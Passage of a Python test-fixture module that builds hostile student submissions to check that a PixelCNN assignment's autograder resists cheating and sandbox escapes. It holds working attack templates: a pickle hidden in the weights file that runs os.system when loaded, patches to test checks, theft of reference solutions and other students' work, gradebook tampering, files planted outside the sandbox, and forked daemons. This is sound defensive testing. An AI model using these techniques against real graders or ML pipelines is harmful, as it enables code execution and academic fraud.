"""A corpus of hostile and broken submissions of home assignment 10_ar, for testing the grader.

Like nbgrader's own fixture notebooks, every scenario is generated from the *released* notebook
(``assignments/10_ar/pixelcnn.ipynb``) with the solution cells filled from the solution
(:func:`autograder.assignments.10_ar.make_samples.solution_sources`, or one of its typical ``MISTAKES``), so the
corpus follows the assignment when it changes. A scenario writes one student's ``10_ar/`` folder
(notebook, weights, extra files) and says which total (of 23) the grader must give it and which
words its reasons must contain.

**The design rule.** A hostile scenario is built on a *wrong or partial* solution (a blank one,
``partial``: only ``MaskedConv2d`` and ``PixelCNN``, or ``mask_centre``: a non-causal first
layer and weights that cheat), so that a cheat that worked (patched asserts, faked test cells,
stolen reference code, a forged gradebook) would *raise* the score. Its expected total is what its
honest (wrong) parts earn, never more. A scenario about a crash (``sys.exit``, ``os._exit``, a
hang, a memory or output flood) is built on the correct solution with the reference weights:
the crash must cost exactly what depends on the crashing function, nothing else. The hostile
code swallows its own exceptions, so its honest parts still run, except where the scenario is
about the crash itself.

Hostile code only ever aims at the paths and values of :class:`Context` (a canary folder, the
submissions and output folders, the repository, a loopback port, a marker string): nothing
destructive (no ``rm``, no killing other processes, processes and files capped) even where the
jail is broken; what it tries to plant is listed by :func:`planted_paths`.

``python -m tests.grading_corpus DIR`` builds the whole corpus into ``DIR`` (dummy context).
"""

from __future__ import annotations

import ast
import copy
import hashlib
import importlib
import io
import operator
import os
import pickletools
import shlex
import shutil
import string
import sys
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
import torch

from autograder.assignment import load as _load_assignment
from autograder.extract import grade_id
from autograder.samples import with_edits

_make_samples = importlib.import_module("autograder.assignments.10_ar.make_samples")
MISTAKES, solution_sources = _make_samples.MISTAKES, _make_samples.solution_sources

RELEASE = _load_assignment("10_ar").release
SOLUTIONS = _load_assignment("10_ar").solution_names

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "autograder" / "assignments" / "10_ar" / "samples"
REFERENCE_WEIGHTS = SAMPLES / "reference" / "10_ar" / "pixelcnn.pth"
MASK_CENTRE = SAMPLES / "mask_centre" / "10_ar"
NOTEBOOK, WEIGHTS = "pixelcnn.ipynb", "pixelcnn.pth"
#: The disk filler stops after this many MiB (or when less than 4 GiB is free), whatever the jail does.
DISK_FILL_CAP_MB = 20 * 1024


@dataclass
class Context:
    """Paths and values the scenarios may embed in their code."""

    repo: Path  # the course repo root (/work/main or a CI clone)
    submitted: Path  # the submissions folder being graded (<submitted>/<student>/10_ar/...)
    out: Path  # the grader's output folder (gradebook.db, grades.csv, other students' feedback)
    canary: Path  # an empty host folder: hostile code tries to write here; must stay empty
    port: int  # a TCP port on 127.0.0.1 where the test listens; hostile code tries to connect
    marker: str  # a unique string: in argv of processes hostile code leaves behind, in names of files it plants


@dataclass
class Scenario:
    name: str  # also the student id (folder name), [a-z0-9_]
    what: str  # one sentence: what the submission does
    total: float  # the total (of 23) it must get: what its honest parts earn
    reason: str  # regex (re.search, case-insensitive) that must match the grader's reasons ("" for honest ones)
    build: Callable[[Path, Context], None]  # writes the contents of <student>/10_ar/ into the given folder
    honest: bool = False
    folder: str | None = None  # the student folder's name on disk when it is not ``name`` (odd ids)
    refused: bool = False  # the entry is refused at intake: a flagged row with zero points, never graded

    @property
    def student_id(self) -> str:
        """The student id as it appears in grades.csv (the folder's name)."""
        return self.folder or self.name


# --------------------------------------------------------------------------- notebooks
def _release() -> nbformat.NotebookNode:
    return nbformat.read(str(RELEASE), as_version=4)


def _stubs() -> dict[str, str]:
    """The released (unanswered) source of each solution cell."""
    return {grade_id(c): c.source for c in _release().cells if grade_id(c) in SOLUTIONS}


def _code(kind: str) -> dict[str, str]:
    """Sources of the solution cells: "correct", "partial", "blank" (the stubs) or a name in MISTAKES."""
    good = solution_sources()
    if kind == "correct":
        return dict(good)
    if kind == "partial":  # like the sample: only MaskedConv2d and PixelCNN answered
        return {**_stubs(), **{gid: good[gid] for gid in ("masked_conv", "pixelcnn")}}
    if kind == "blank":
        return _stubs()
    return with_edits(good, MISTAKES[kind], kind)


def _notebook(fills: dict[str, str]) -> nbformat.NotebookNode:
    """The released notebook with these solution cells filled in (original metadata kept)."""
    nb = _release()
    for cell in nb.cells:
        if grade_id(cell) in fills:
            cell.source = fills[grade_id(cell)]
    return nb


def _is_grade_cell(cell) -> bool:
    meta = cell.get("metadata", {}).get("nbgrader")
    return isinstance(meta, dict) and bool(meta.get("grade"))


def _cell_id(*parts: object) -> str:
    """A valid, reproducible cell id (nbformat 4.5: [a-zA-Z0-9-_], 1 to 64 characters)."""
    return hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()[:8]


def _write(folder: Path, nb: nbformat.NotebookNode, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / name))


def _after(source: str, code: str) -> str:
    """``code`` as top-level statements after the cell's own source."""
    return source.rstrip() + "\n\n\n" + textwrap.dedent(code).strip() + "\n"


def _body_first(source: str, function: str, code: str) -> str:
    """``code`` as the first statements of ``function``'s body (after its docstring)."""
    node = next(n for n in ast.walk(ast.parse(source)) if isinstance(n, ast.FunctionDef) and n.name == function)
    body = node.body
    docstring = isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant) \
        and isinstance(body[0].value.value, str)
    first = body[1] if docstring and len(body) > 1 else body[0]
    lines = source.splitlines()
    indent = " " * first.col_offset
    block = [indent + line if line.strip() else "" for line in textwrap.dedent(code).strip("\n").splitlines()]
    lines[first.lineno - 1:first.lineno - 1] = block
    return "\n".join(lines) + "\n"


def _template(code: str, **values: object) -> str:
    """Hostile code with ``$name`` placeholders replaced by Python literals (``repr``) of the values."""
    return string.Template(textwrap.dedent(code)).substitute({k: repr(str(v) if isinstance(v, Path) else v)
                                                              for k, v in values.items()})


# --------------------------------------------------------------------------- weights
def _reference_state() -> dict[str, torch.Tensor]:
    return torch.load(REFERENCE_WEIGHTS, map_location="cpu", weights_only=True)


def _copy_weights(folder: Path, source: Path = REFERENCE_WEIGHTS) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, folder / WEIGHTS)


class _Shell:
    """Unpickled by a full (not ``weights_only``) load: runs a shell command."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class _ArmedTensor:
    """Unpickles into ``tensor + os.system(command)`` = the tensor itself: a full load still gets valid weights."""

    def __init__(self, tensor: torch.Tensor, command: str):
        self.tensor, self.command = tensor, command

    def __reduce__(self):
        return operator.add, (self.tensor, _Shell(self.command))


def _malicious_weights(path: Path, planted: Path) -> None:
    """The reference weights with one tensor armed: ``torch.load(weights_only=False)`` runs ``touch planted``
    and still returns weights that load (23 points); ``weights_only=True`` refuses the file."""
    state = _reference_state()
    key = next(k for k in state if k.endswith(".bias"))
    state[key] = _ArmedTensor(state[key], "touch " + shlex.quote(str(planted)))
    torch.save(state, path)


def _retag_pickle(data: bytes, old: str, new: str) -> tuple[bytes, int]:
    """Rewrite every string constant ``old`` of a pickle as ``new`` (opcode by opcode; memo indices
    do not depend on byte offsets, and torch's protocol 2 has no frames to fix)."""
    ops = list(pickletools.genops(data))
    out, count = bytearray(), 0
    for k, (op, arg, pos) in enumerate(ops):
        end = ops[k + 1][2] if k + 1 < len(ops) else len(data)
        if op.name in ("SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8") and arg == old:
            raw = new.encode()
            width = {"SHORT_BINUNICODE": 1, "BINUNICODE": 4, "BINUNICODE8": 8}[op.name]  # the same opcode
            out += op.code.encode("latin-1") + len(raw).to_bytes(width, "little") + raw
            count += 1
        else:
            out += data[pos:end]
    return bytes(out), count


def _cuda_weights(path: Path) -> None:
    """The reference weights as saved on a GPU: every storage's location is ``cuda:0``.

    ``torch.load(path, weights_only=True)`` raises on a machine without CUDA; with
    ``map_location="cpu"`` it returns the reference weights.
    """
    buffer = io.BytesIO()
    torch.save(_reference_state(), buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    target = io.BytesIO()
    retagged = 0
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("/data.pkl"):
                data, retagged = _retag_pickle(data, "cpu", "cuda:0")
            archive.writestr(info.filename, data)
    if not retagged:
        raise RuntimeError("no 'cpu' storage location found in the pickle written by torch.save")
    path.write_bytes(target.getvalue())


def _huge_weights(path: Path, megabytes: int = 30) -> None:
    """The reference weights, still loadable as they are, with an unused ``megabytes`` MiB record in the zip."""
    torch.save(_reference_state(), path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as archive:
        prefix = archive.namelist()[0].split("/", 1)[0]
        archive.writestr(f"{prefix}/extra/padding", bytes(megabytes * 2**20))


def _wrong_arch_weights(path: Path) -> None:
    """A PixelCNN(n_channels=64) state dict: the same keys as the default PixelCNN(), other shapes."""
    reference = importlib.import_module("autograder.assignments.10_ar.reference")

    with torch.random.fork_rng():
        torch.manual_seed(0)
        state = reference.PixelCNN(n_channels=64).state_dict()
    torch.save(state, path)


# --------------------------------------------------------------------------- hostile code
PATCH_ASSERT = """
try:  # make every test pass
    import builtins
    builtins.AssertionError = type("Nope", (Exception,), {})
    import arflow.assignment_checks as ac
    ac.check_masked_conv = ac.check_pixelcnn = lambda *a, **k: print("pass")
except Exception:
    pass
"""

PATCH_TORCH_NUMPY = """
try:  # every comparison says "equal"
    import numpy as np
    import torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.allclose = lambda *a, **k: True
    torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
except Exception:
    pass
"""

PATCH_IPYTHON = """
try:  # hide the errors of the test cells
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
except Exception:
    pass
"""

PATCH_AUTOGRADER = """
import importlib
import json
import sys
import types

_FULL = {"hidden_masked_conv": 3, "hidden_pixelcnn": 3, "hidden_loss_fn": 2, "hidden_generate": 3,
         "hidden_trained_model": 5}
_CHECKS = "autograder.assignments.10_ar.checks"


def _full_marks(*args, **kwargs):
    return dict(_FULL)


try:  # the grader's own modules, where they can be imported: every check and the threshold
    _real_checks = importlib.import_module(_CHECKS)
    _real_checks.BPD_THRESHOLD = float("inf")
    for _gid in list(_real_checks.CHECKS):
        _real_checks.CHECKS[_gid] = _full_marks
    importlib.import_module("autograder.verdicts").run_checks = _full_marks
except Exception:
    pass
try:  # else fakes of them, with full marks
    _checks = types.ModuleType(_CHECKS)
    _checks.BPD_THRESHOLD = float("inf")
    _checks.CHECKS = {gid: _full_marks for gid in _FULL}
    _verdicts = types.ModuleType("autograder.verdicts")
    _verdicts.run_checks = _full_marks
    _packages = [types.ModuleType(name) for name in ("autograder", "autograder.assignments",
                                                     "autograder.assignments.10_ar")]
    for _package, _child in zip(_packages, [*_packages[1:], _checks]):
        _package.__path__ = []
        setattr(_package, _child.__name__.rsplit(".", 1)[1], _child)
    _packages[0].verdicts = _verdicts
    sys.modules.update({_module.__name__: _module for _module in (*_packages, _checks, _verdicts)})
except Exception:
    pass
try:  # every JSON message gets full marks
    _dumps = json.dumps

    def _dumps_full_marks(obj, *args, **kwargs):
        if isinstance(obj, dict):
            obj = {"score": 100, "points": 100, "passed": True, "total": 23, **obj}
        return _dumps(obj, *args, **kwargs)

    json.dumps = _dumps_full_marks
except Exception:
    pass
"""

# Appended to every (blank) solution cell: if any of it can be read, the stolen definitions replace the stubs.
READ_REFERENCE = """
def _borrow_reference():
    import json
    import os
    import shutil
    import subprocess
    wanted = ("MaskedConv2d", "PixelCNN", "loss_fn", "generate")
    try:
        import importlib
        module = importlib.import_module("autograder.assignments.10_ar.reference")
        globals().update({name: getattr(module, name) for name in wanted})
    except Exception:
        pass
    texts = []
    try:
        with open(os.path.join($repo, "autograder", "assignments", "10_ar", "reference.py")) as handle:
            texts.append(handle.read())
    except Exception:
        pass
    try:
        texts.append(subprocess.run(["git", "-C", $repo, "show", "HEAD:autograder/assignments/10_ar/reference.py"],
                                    capture_output=True, text=True, timeout=10).stdout)
    except Exception:
        pass
    for text in texts:
        try:
            namespace = {"__name__": "stolen_reference"}
            exec(compile(text, "reference.py", "exec"), namespace)
            globals().update({name: namespace[name] for name in wanted})
        except Exception:
            pass
    for path in (os.path.join($repo, "solutions", "10_ar", "pixelcnn.ipynb"),
                 os.path.join($out, "source", "10_ar", "pixelcnn.ipynb")):
        try:
            with open(path) as handle:
                cells = json.load(handle)["cells"]
            for cell in cells:
                if (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id") in (
                        "masked_conv", "pixelcnn", "loss_fn", "generate"):
                    exec("".join(cell["source"]), globals())
        except Exception:
            pass
    try:
        shutil.copyfile(os.path.join($repo, "autograder", "assignments", "10_ar", "samples", "reference", "10_ar",
                                     "pixelcnn.pth"),
                        "pixelcnn.pth")
    except Exception:
        pass


_borrow_reference()
"""

READ_OTHERS = """
def _borrow_from_others():
    import glob
    import json
    import os
    import shutil
    victim = os.path.join($submitted, "honest_reference", "10_ar")
    paths = [os.path.join(victim, "pixelcnn.ipynb")]
    try:
        paths += sorted(glob.glob(os.path.join($submitted, "*", "10_ar", "*.ipynb")))
        paths += sorted(glob.glob(os.path.join($out, "**", "*.ipynb"), recursive=True))[:200]
    except Exception:
        pass
    found = {}
    for path in paths:
        try:
            with open(path) as handle:
                cells = json.load(handle)["cells"]
        except Exception:
            continue
        for cell in cells:
            gid = (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id")
            text = "".join(cell.get("source", ""))
            if gid in ("masked_conv", "pixelcnn", "loss_fn", "generate") and "NotImplementedError" not in text:
                found.setdefault(gid, text)
    for gid in ("masked_conv", "pixelcnn", "loss_fn", "generate"):
        try:
            if gid in found:
                exec(found[gid], globals())
        except Exception:
            pass
    for target in ("pixelcnn.pth", os.path.join($submitted, "read_others", "10_ar", "pixelcnn.pth")):
        try:
            shutil.copyfile(os.path.join(victim, "pixelcnn.pth"), target)
        except Exception:
            pass


_borrow_from_others()
"""

READ_GRADEBOOK = """
try:  # full marks in the gradebook
    import sqlite3
    db = sqlite3.connect("file:" + $gradebook + "?mode=rw", uri=True, timeout=3)
    tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    for table in tables:
        for column in [row[1] for row in db.execute(f'PRAGMA table_info("{table}")')]:
            if "score" in column:
                db.execute(f'UPDATE "{table}" SET "{column}" = 100')
    db.commit()
    db.close()
except Exception:
    pass
try:
    with open($grades_csv, "w") as handle:
        handle.write("student_id,total\\nread_gradebook,23\\n")
except Exception:
    pass
"""

WRITE_OUTSIDE = """
import os

for _target in ($canary_file, $repo_file, $out_file, $tmp_file, os.path.expanduser($home_file)):
    try:
        with open(_target, "w") as _handle:
            _handle.write("planted by a submission\\n")
    except Exception:
        pass
"""

NETWORK = """
import socket
import urllib.request

try:
    with socket.create_connection(("127.0.0.1", $port), timeout=3) as _sock:
        _sock.sendall($marker.encode())
except Exception:
    pass
try:
    urllib.request.urlopen("http://example.com", timeout=3).read(100)
except Exception:
    pass
"""

FORK_LEFTOVERS = """
import shutil
import subprocess
import sys

try:  # a sleep whose argv[0] carries the marker, in a session of its own
    subprocess.Popen([$marker + "-sleep", "600"], executable=shutil.which("sleep") or "/bin/sleep",
                     start_new_session=True, stdin=subprocess.DEVNULL)
except Exception:
    pass
try:  # a double-forked python daemon (setsid) with the marker in its argv
    subprocess.Popen([sys.executable, "-c",
                      "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(600)\\nos._exit(0)",
                      $marker], start_new_session=True, stdin=subprocess.DEVNULL)
except Exception:
    pass
"""

DISK_FILL = """
import os
import shutil

try:  # fill the working folder, 1 MiB at a time, until something says no
    with open("fill.bin", "wb", buffering=0) as _handle:
        _chunk = b"\\xa5" * 2**20
        for _ in range($cap_mb):
            if shutil.disk_usage(".").free < 4 * 2**30:  # never fill the machine, even outside the jail
                break
            _handle.write(_chunk)
except OSError:
    pass
"""

SYS_EXIT = "import sys\nsys.exit(3)\n"
OS_EXIT = "import os\nos._exit(1)\n"
KERNEL_KILL = "import os\nimport signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
HANG = "while True:\n    pass\n"
MEMORY_HOG = "_ballast = torch.ones(2**37)  # 512 GiB of float32\n"
OUTPUT_FLOOD = 'for _ in range(4000):  # 4 GB\n    print("x" * 10**6)\n'


def planted_paths(ctx: Context) -> list[Path]:
    """Every file the hostile scenarios try to create outside their own working folder (none may exist)."""
    return [ctx.canary / ctx.marker, ctx.canary / "pwned", ctx.repo / f"{ctx.marker}.txt",
            ctx.out / f"{ctx.marker}.txt", Path("/tmp") / ctx.marker, Path("~").expanduser() / ctx.marker,
            ctx.submitted / "read_others" / "10_ar" / WEIGHTS]


# --------------------------------------------------------------------------- builders
def _plain(kind: str, weights: Path | None = None, extra: dict[str, Callable[[str], str]] | None = None):
    """A builder: the release with ``kind`` code (each cell edited by ``extra[gid]`` if given) and weights."""

    def build(folder: Path, ctx: Context) -> None:
        fills = _code(kind)
        for gid, edit in (extra or {}).items():
            fills[gid] = edit(fills[gid])
        _write(folder, _notebook(fills))
        if weights is not None:
            _copy_weights(folder, weights)

    return build


def _hostile(kind: str, weights: Path | None, gid: str, code: Callable[[Context], str],
             function: str | None = None):
    """A builder: ``code(ctx)`` added to solution cell ``gid``, at its end or first in ``function``'s body."""

    def build(folder: Path, ctx: Context) -> None:
        fills = _code(kind)
        text = code(ctx)
        fills[gid] = _body_first(fills[gid], function, text) if function else _after(fills[gid], text)
        _write(folder, _notebook(fills))
        if weights is not None:
            _copy_weights(folder, weights)

    return build


def _copy_sample(sample: Path):
    def build(folder: Path, ctx: Context) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        for path in sample.iterdir():
            if path.is_file():
                shutil.copyfile(path, folder / path.name)

    return build


def _edited(kind: str, weights: Path | None, edit: Callable[[nbformat.NotebookNode], None]):
    """A builder: the release with ``kind`` code, then ``edit`` applied to the whole notebook."""

    def build(folder: Path, ctx: Context) -> None:
        nb = _notebook(_code(kind))
        edit(nb)
        _write(folder, nb)
        if weights is not None:
            _copy_weights(folder, weights)

    return build


def _delete_test_cells(nb) -> None:
    nb.cells = [c for c in nb.cells if not _is_grade_cell(c)]


def _fake_test_cells(nb) -> None:
    for cell in nb.cells:
        if _is_grade_cell(cell):
            cell.source = 'print("all tests pass")'
            cell.metadata.nbgrader["points"] = 100


def _duplicate_test_cells(nb) -> None:
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if _is_grade_cell(cell):
            twin = copy.deepcopy(cell)
            twin.id = _cell_id("duplicate", cell.id)  # same grade id; cell ids must stay unique
            cells.append(twin)
    nb.cells = cells


def _reverse_code_cells(nb) -> None:
    slots = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    code = [nb.cells[i] for i in slots]
    for i, cell in zip(slots, reversed(code)):
        nb.cells[i] = cell


def _change_cell_types(nb) -> None:
    for i, cell in enumerate(nb.cells):
        if _is_grade_cell(cell):
            nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.id)
        elif grade_id(cell) == "generate":
            nb.cells[i] = nbformat.v4.new_raw_cell(cell.source, metadata=cell.metadata, id=cell.id)


def _alter_metadata(nb) -> None:
    for n, cell in enumerate(nb.cells):
        cell.id = _cell_id("altered", n)
        meta = cell.metadata.get("nbgrader")
        if not isinstance(meta, dict):
            continue
        if meta.get("solution"):
            del cell.metadata["nbgrader"]
        elif meta.get("grade"):
            meta["grade_id"] = f"my_{meta['grade_id']}"
            meta["points"] = 10 * meta.get("points", 1)


def _build_renamed(folder: Path, ctx: Context) -> None:
    _write(folder, _notebook(_code("correct")), name="PixelCNN (1).ipynb")


def _build_extra_files(folder: Path, ctx: Context) -> None:
    _write(folder, _notebook(_code("correct")))
    (folder / "notes.txt").write_text("Trained on Colab, forgot to download pixelcnn.pth, sorry!\n")
    (folder / "helper.py").write_text('"""My plotting helpers."""\n\nimport matplotlib.pyplot as plt\n\n\n'
                                      "def show(image):\n    plt.imshow(image[0], cmap=\"gray\")\n    plt.show()\n")
    (folder / "data").mkdir()
    (folder / "data" / "batch.bin").write_bytes(hashlib.shake_256(b"extra_and_missing_files").digest(2**20))


def _build_invalid_json(folder: Path, ctx: Context) -> None:
    text = nbformat.writes(_notebook(_code("correct")))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(text[:len(text) // 2])
    _copy_weights(folder)


def _weights_builder(kind: str, make: Callable[[Path, Context], None]):
    def build(folder: Path, ctx: Context) -> None:
        _write(folder, _notebook(_code(kind)))
        make(folder / WEIGHTS, ctx)

    return build


def _hostile_blank(template: str, **values: Callable[[Context], object]):
    """A builder: the blank stubs, each solution cell followed by ``template`` (a steal that replaces the stubs)."""

    def build(folder: Path, ctx: Context) -> None:
        code = _template(template, **{k: v(ctx) for k, v in values.items()})
        fills = {gid: _after(source, code) for gid, source in _code("blank").items()}
        _write(folder, _notebook(fills))

    return build


def _static(code: str) -> Callable[[Context], str]:
    return lambda ctx: code


# --- issue 12: probes (grader-probes branch): builders
# generate reads the probe net's attributes (its __dict__, params, buffers, closures, any dict the
# process holds with "start" and "step") to write the chain net's answer in one pass, without
# sampling; on column-order code, so that a cheat that worked would raise the total.
READ_PROBE_NET = """
import gc
_found = None
try:
    _pool = [getattr(net, "params", None), getattr(net, "__dict__", None), dict(net.named_buffers()),
             dict(net.named_parameters())]
    for _f in (type(net).forward, getattr(net.forward, "__func__", None)):
        for _cell in getattr(_f, "__closure__", None) or ():
            try:
                _pool.append(_cell.cell_contents)
            except ValueError:
                pass
    _pool += [o for o in gc.get_objects() if isinstance(o, dict)]
    for _o in _pool:
        _d = _o if isinstance(_o, dict) else getattr(_o, "__dict__", None)
        if isinstance(_d, dict) and isinstance(_d.get("params"), dict):
            _d = _d["params"]
        if isinstance(_d, dict) and set(_d) == {"start", "step"} and isinstance(_d["step"], int):
            _found = _d
            break
except Exception:
    pass
if _found is not None:
    _k = (_found["start"] + _found["step"] * torch.arange(image_size[0] * image_size[1])) % 256
    return (_k.float() / 255).reshape(1, 1, *image_size).repeat(n_samples, 1, 1, 1)
"""

# Code that leaks through its own feedback while answering a HIDDEN probe only (the visible probes
# use other shapes): loss_fn raises with the marker, the probe's inputs and the child's source in
# its message; generate prints the marker and the net's attributes, then dies. The marker is
# written reversed in the source, so that it can only appear in the feedback if the grader
# repeats what the code said.
LEAK_LOSS = """
if tuple(logits.shape) == (3, 256, 5, 6):
    import sys
    _leak = "".join(reversed($reversed_marker))
    try:
        _leak += open(sys.argv[0]).read()[:300]
    except Exception:
        pass
    raise ValueError(_leak + repr(x.reshape(-1)[:16].tolist()))
"""
LEAK_GENERATE = """
if n_samples == 3:
    import os
    import sys
    print("".join(reversed($reversed_marker)), repr(vars(net))[:300], flush=True)
    sys.stderr.flush()
    os._exit(1)
"""


def _build_probe_leak(folder: Path, ctx: Context) -> None:
    fills = _code("correct")
    values = {"reversed_marker": ctx.marker[::-1]}
    fills["loss_fn"] = _body_first(fills["loss_fn"], "loss_fn", _template(LEAK_LOSS, **values))
    fills["generate"] = _body_first(fills["generate"], "generate", _template(LEAK_GENERATE, **values))
    _write(folder, _notebook(fills))
    _copy_weights(folder)
# --- end probes: builders


S = Scenario
REF, CENTRE = REFERENCE_WEIGHTS, MASK_CENTRE / WEIGHTS
TIMEOUT, DIED = r"time limit|timed out|no answer", r"died|exit|killed|signal"

SCENARIOS: list[Scenario] = [
    # ------------------------------------------------------------------ honest
    S("honest_reference", "The correct solution with the reference weights.", 23, "",
      _plain("correct", REF), honest=True),
    S("honest_partial", "Only MaskedConv2d and PixelCNN answered, no weights (like the partial sample).", 10, "",
      _plain("partial"), honest=True),
    S("honest_mask_centre", "A copy of the mask_centre sample (non-causal first layer) with its weights.", 11, "",
      _copy_sample(MASK_CENTRE), honest=True),
    S("weights_cuda", "The correct solution with the reference weights saved from a GPU (storages tagged cuda:0).",
      23, "", _weights_builder("correct", lambda path, ctx: _cuda_weights(path)), honest=True),
    # ------------------------------------------------------------------ the notebook's structure
    S("test_cells_deleted", "mask_centre code and weights; every visible test cell and hidden placeholder deleted.",
      11, "", _edited("mask_centre", CENTRE, _delete_test_cells)),
    S("test_cells_edited", "mask_centre code and weights; every grade cell prints 'all tests pass', worth 100 points.",
      11, "", _edited("mask_centre", CENTRE, _fake_test_cells)),
    S("test_cells_duplicated", "Partial code; every grade cell duplicated (same grade id, new cell id).", 10, "",
      _edited("partial", None, _duplicate_test_cells)),
    S("cells_reordered", "Partial code; all code cells in reverse order (solutions after their tests).", 10, "",
      _edited("partial", None, _reverse_code_cells)),
    S("cell_types_changed", "mask_centre code and weights; grade cells made markdown, the (correct) generate cell raw.",
      6, r"generate", _edited("mask_centre", CENTRE, _change_cell_types)),
    S("metadata_altered", "Partial code; solution cells' nbgrader metadata removed, cell ids changed, test cells' "
      "grade ids renamed and points multiplied by 10.", 10, "", _edited("partial", None, _alter_metadata)),
    S("notebook_renamed", "The correct solution without weights, saved as 'PixelCNN (1).ipynb'.", 18,
      r"renamed|pixelcnn \(1\)", _build_renamed),
    S("extra_and_missing_files", "The correct solution without weights, plus notes.txt, helper.py and a 1 MB data/ "
      "file.", 18, r"pixelcnn\.pth|weights", _build_extra_files),
    S("invalid_json", "The correct solution's notebook cut in the middle (not JSON), with the reference weights.", 0,
      r"not a valid|could not be read|json", _build_invalid_json),
    # ------------------------------------------------------------------ the weights file
    S("pickle_weights", "The correct solution; pixelcnn.pth is the reference with a pickled os.system call that "
      "touches a file in the canary folder (a full load would still get valid weights).", 18,
      r"weights|pickle|load",
      _weights_builder("correct", lambda path, ctx: _malicious_weights(path, ctx.canary / "pwned"))),
    S("weights_huge", "The correct solution; pixelcnn.pth is the reference weights (still loadable) padded to 30 MB "
      "by an unused record.", 18, r"larger than|too large|size",
      _weights_builder("correct", lambda path, ctx: _huge_weights(path))),
    S("weights_wrong_arch", "The correct solution; pixelcnn.pth holds PixelCNN(n_channels=64) weights.", 18,
      r"could not be loaded|size mismatch|weights",
      _weights_builder("correct", lambda path, ctx: _wrong_arch_weights(path))),
    # ------------------------------------------------------------------ patching what judges
    S("patch_assert", "mask_centre code and weights; replaces builtins.AssertionError and the visible checks.", 11, "",
      _hostile("mask_centre", CENTRE, "masked_conv", _static(PATCH_ASSERT))),
    S("patch_torch_numpy", "mask_centre code and weights; torch.allclose/equal, np.array_equal/allclose always True, "
      "Tensor.__ne__ all False.", 11, "", _hostile("mask_centre", CENTRE, "masked_conv", _static(PATCH_TORCH_NUMPY))),
    S("patch_ipython", "mask_centre code and weights; an IPython custom exception handler that hides every error.", 11,
      "", _hostile("mask_centre", CENTRE, "masked_conv", _static(PATCH_IPYTHON))),
    S("patch_autograder", "Partial code; imports or fakes the grader's checks (autograder.assignments.10_ar.checks, "
      "autograder.verdicts) with full marks, adds scores to every json.dumps.", 10, "",
      _hostile("partial", None, "masked_conv", _static(PATCH_AUTOGRADER))),
    # ------------------------------------------------------------------ reading and writing what it must not
    S("read_reference", "Blank code; every solution cell tries to read and exec the autograder's reference, the "
      "instructor's notebook (also via git and the output folder) and copy the reference weights.", 0, "",
      _hostile_blank(READ_REFERENCE, repo=lambda ctx: ctx.repo, out=lambda ctx: ctx.out)),
    S("read_others", "Blank code; every solution cell tries to exec another student's solution cells and copy their "
      "weights.", 0, "",
      _hostile_blank(READ_OTHERS, submitted=lambda ctx: ctx.submitted, out=lambda ctx: ctx.out)),
    S("read_gradebook", "Partial code; sets every score in the SQLite gradebook to 100 and writes a fake grades.csv.",
      10, "", _hostile("partial", None, "masked_conv", lambda ctx: _template(
          READ_GRADEBOOK, gradebook=ctx.out / "gradebook.db", grades_csv=ctx.out / "grades.csv"))),
    S("write_outside", "Partial code; plants files in the canary folder, the repository, the output folder, /tmp "
      "and the home folder.", 10, "", _hostile("partial", None, "pixelcnn", lambda ctx: _template(
          WRITE_OUTSIDE, canary_file=ctx.canary / ctx.marker, repo_file=ctx.repo / f"{ctx.marker}.txt",
          out_file=ctx.out / f"{ctx.marker}.txt", tmp_file=f"/tmp/{ctx.marker}", home_file=f"~/{ctx.marker}"))),
    S("network", "Partial code; sends the marker to a loopback port and fetches http://example.com.", 10, "",
      _hostile("partial", None, "masked_conv", lambda ctx: _template(NETWORK, port=ctx.port, marker=ctx.marker))),
    # ------------------------------------------------------------------ crashes (correct code + reference weights)
    S("sys_exit", "The correct solution and weights, but loss_fn calls sys.exit(3).", 20, r"exit",
      _hostile("correct", REF, "loss_fn", _static(SYS_EXIT), function="loss_fn")),
    S("os_exit", "The correct solution and weights, but generate calls os._exit(1).", 18, DIED,
      _hostile("correct", REF, "generate", _static(OS_EXIT), function="generate")),
    S("kernel_kill", "The correct solution and weights, but generate sends SIGKILL to its own process.", 18, DIED,
      _hostile("correct", REF, "generate", _static(KERNEL_KILL), function="generate")),
    S("hang", "The correct solution and weights, but generate starts with an endless loop.", 18, TIMEOUT,
      _hostile("correct", REF, "generate", _static(HANG), function="generate")),
    S("memory_hog", "The correct solution and weights, but loss_fn first allocates 512 GiB.", 20, r"memory|allocat",
      _hostile("correct", REF, "loss_fn", _static(MEMORY_HOG), function="loss_fn")),
    S("output_flood", "The correct solution and weights, but generate first prints 4 GB.", 18,
      r"output|died|too large|file size|limit",
      _hostile("correct", REF, "generate", _static(OUTPUT_FLOOD), function="generate")),
    S("fork_leftovers", "The correct solution and weights; the masked_conv cell starts a sleep and a double-forked "
      "daemon (new sessions, the marker in their argv).", 23, "",
